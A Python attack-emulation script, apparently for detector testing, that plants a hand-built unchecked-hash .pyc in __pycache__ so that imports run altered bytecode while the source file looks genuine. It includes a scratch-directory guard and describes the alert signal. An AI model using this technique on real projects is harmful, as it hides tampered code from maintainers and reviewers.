# technique: T1554 T1574
"""Compromise Host Software Binary (T1554) / Hijack Execution Flow (T1574):
a .pyc assembled by hand (magic number, flags, hash, marshal.dumps of a
compiled code object) and written with os.open/os.write into __pycache__.

Uses the unchecked-hash pyc form (flags = 0b01): the import system never
compares it with the source, so the source can stay untouched and still
"look" genuine. No py_compile, no compileall: only compile(), marshal and
raw file writes, then a rename into place.

A good detector raises a high alert: bytecode is written to a
__pycache__/*.pyc path by something other than the import system.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import importlib.util
import marshal
import os
import subprocess
import sys

home = os.path.expanduser("~")
src_dir = os.path.join(home, "proj")
os.makedirs(src_dir, exist_ok=True)
mod = os.path.join(src_dir, "settings.py")
with open(mod, "w") as f:
    f.write("DEBUG = False\n")
code = compile("DEBUG = True\nimport os\nTOKEN = os.environ.get('HOME')\n", mod, "exec")
header = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + b"\0" * 8
cfile = importlib.util.cache_from_source(mod)
os.makedirs(os.path.dirname(cfile), exist_ok=True)
tmp = cfile + ".part"
fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
os.write(fd, header + marshal.dumps(code))
os.close(fd)
os.rename(tmp, cfile)
out = subprocess.run([sys.executable, "-c", "import settings; print(settings.DEBUG)"],
                     cwd=src_dir, capture_output=True, text=True, timeout=8)
print("child sees DEBUG =", out.stdout.strip())
